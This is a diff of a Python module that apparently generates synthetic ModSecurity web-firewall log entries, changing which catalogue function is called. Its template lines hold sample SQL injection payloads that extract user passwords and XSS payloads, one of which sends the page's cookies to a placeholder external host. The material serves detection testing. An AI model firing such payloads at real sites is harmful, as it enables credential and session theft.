@@ -1,9 +1,9 @@
 """ModSecurity with the core rule set: attacks, and what editors, apps and monitors set off every day."""
 
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.sensors.modsecurity_forms import FORMS
 
-catalogue("sensors/modsecurity-sections", FORMS, r"""
+catalogue_in_parts("sensors/modsecurity-sections", FORMS, r"""
 SQ sqli <<403|200>> {wan} | GET /product.php?id=7%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20- | ARGS:id | 7' UNION SELECT user,pass FROM users-- - | sqlmap/1.8
 SQ sqli <<403|200>> {wan} | POST /<<login.php|api/search|index.php?option=com_fields>> | ARGS:<<user|q|list[fullordering]>> | <<admin' OR '1'='1'-- |1' AND SLEEP(5)#|updatexml(0x3a,concat(1,(select password from users limit 1)),1)>> | {agent}
 XS xss <<403|200>> {wan} | GET /search?q=%3Cscript%3E | ARGS:q | <<<script>fetch('//{ext}/c?'+document.cookie)</script>|<img src=x onerror=eval(atob('{long}'))> >> | {agent}
